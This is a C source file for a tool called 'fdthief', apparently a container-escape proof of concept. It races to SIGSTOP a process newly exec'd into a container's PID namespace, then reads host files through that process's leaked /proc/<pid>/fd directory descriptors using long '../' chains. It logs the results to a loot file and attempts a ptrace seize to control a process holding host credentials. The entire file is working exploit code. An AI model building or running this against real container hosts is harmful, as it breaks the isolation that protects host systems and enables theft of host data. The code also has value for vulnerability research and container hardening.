/*
 * fdthief: catch the next process of our pid namespace before it is non-dumpable.
 *
 *   fdthief LOOT_FILE HOST_PATH
 *
 * A process `exec` starts appears in the container's pid namespace as the pid after
 * /proc/sys/kernel/ns_last_pid.  We spin on kill(SIGSTOP) to that pid: once it
 * succeeds the new process is stopped wherever it was, and while it is still dumpable
 * (and we have the capabilities to pass ptrace_may_access), its /proc/<pid>/fd is ours
 * to open.  A directory fd of the host there is a way out of the root: HOST_PATH is
 * opened through each fd with enough "../" to reach the host's "/", and what it holds
 * is appended to LOOT_FILE, with one "fd N -> target" line per fd we could read.
 * We also try to become its tracer (PTRACE_SEIZE: no DAC check on /proc, which a
 * user namespace's root fails for a host-owned process): a tracer could make it do
 * anything with those fds and its host credentials; "ptrace attached N" if it worked.
 * Then the process is let go (SIGCONT) and we wait for the next one.  Runs forever.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/ptrace.h>
#include <sys/wait.h>

static int last_pid(void)
{
    char buf[32];
    int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
    if (fd < 0)
        return -1;
    ssize_t n = read(fd, buf, sizeof(buf) - 1);
    close(fd);
    if (n <= 0)
        return -1;
    buf[n] = 0;
    return atoi(buf);
}

static void loot(int out, int pid, const char *host_path)
{
    char dir[64], path[4096], link[4096], data[256];
    snprintf(dir, sizeof(dir), "/proc/%d/fd", pid);
    DIR *d = opendir(dir);
    if (!d)
        return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.')
            continue;
        snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
        ssize_t n = readlink(path, link, sizeof(link) - 1);
        if (n < 0)
            continue;
        link[n] = 0;
        dprintf(out, "fd %s -> %s\n", e->d_name, link);
        snprintf(path, sizeof(path), "%s/%s/", dir, e->d_name);
        for (int i = 0; i < 40; i++)
            strcat(path, "../");
        strcat(path, host_path + 1);
        int fd = open(path, O_RDONLY);
        if (fd >= 0) {
            n = read(fd, data, sizeof(data) - 1);
            if (n > 0) {
                data[n] = 0;
                dprintf(out, "read through fd %s: %s\n", e->d_name, data);
            }
            close(fd);
        }
    }
    closedir(d);
}

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: fdthief LOOT_FILE HOST_PATH\n");
        return 2;
    }
    int out = open(argv[1], O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (out < 0) {
        perror("fdthief: open loot file");
        return 1;
    }
    for (;;) {
        int target = last_pid() + 1;
        if (target <= 1) {
            perror("fdthief: read ns_last_pid");
            return 1;
        }
        dprintf(out, "waiting for %d\n", target);
        while (kill(target, SIGSTOP) < 0)
            ;
        loot(out, target, argv[2]);
        if (ptrace(PTRACE_SEIZE, target, 0, 0) == 0) {
            dprintf(out, "ptrace attached %d\n", target);
            ptrace(PTRACE_INTERRUPT, target, 0, 0);
            waitpid(target, NULL, __WALL);
            ptrace(PTRACE_DETACH, target, 0, 0);
        }
        kill(target, SIGCONT);
        dprintf(out, "caught %d\n", target);
    }
}
